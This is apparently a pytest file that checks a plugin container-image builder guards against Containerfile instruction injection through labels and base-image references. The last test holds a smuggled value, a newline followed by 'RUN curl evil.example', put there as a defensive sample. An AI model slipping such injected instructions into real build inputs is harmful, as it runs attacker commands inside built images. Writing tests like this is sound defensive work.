"""What an engine builds from."""

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qirvo.deploy.images.containerfile import (
    BuildFolderTakenError,
    Instructions,
    render_containerfile,
    write_build_folder,
)
from qirvo.domain.images import MalformedImageReferenceError
from tests.support.images import a_release

BASE = "registry.example/base/node:20"


@given(value=st.text(max_size=200))
def test_no_text_of_a_label_becomes_an_instruction(value: str):
    text = render_containerfile(Instructions(base=BASE, labels={"a": "", "b": value}, plugin_id="acme.weather"))
    plain = render_containerfile(Instructions(base=BASE, labels={"a": "", "b": ""}, plugin_id="acme.weather"))
    labels = re.compile(r'b="(?:[^"\\$\n]|\\["\\$])*"')
    assert labels.sub('b=""', text) == plain


def test_the_folder_holds_the_verified_plugin_and_no_archive(tmp_path: Path):
    release = a_release(tmp_path)
    path = write_build_folder(release, tmp_path / "build", base=BASE)
    inside = {entry.relative_to(path.parent).as_posix() for entry in path.parent.rglob("*") if entry.is_file()}
    folder = f"plugin/releases/1.0.0-{release.tree_digest.hex[:12]}"
    assert {"Containerfile", "plugin/installation.json", f"{folder}/dist/index.js", "runtime/main.js"} <= inside
    assert not any(name.endswith((".zip", ".tgz")) for name in inside)
    assert not {"RUN", "ARG", "ADD"} & {line.partition(" ")[0] for line in path.read_text().splitlines()}


def test_a_folder_that_holds_something_is_left_alone(tmp_path: Path):
    (tmp_path / "build").mkdir()
    (tmp_path / "build" / "mine").touch()
    with pytest.raises(BuildFolderTakenError):
        write_build_folder(a_release(tmp_path), tmp_path / "build", base=BASE)


def test_a_base_cannot_bring_instructions(tmp_path: Path):
    with pytest.raises(MalformedImageReferenceError):
        write_build_folder(a_release(tmp_path), tmp_path / "build", base=f"{BASE}\nRUN curl evil.example")
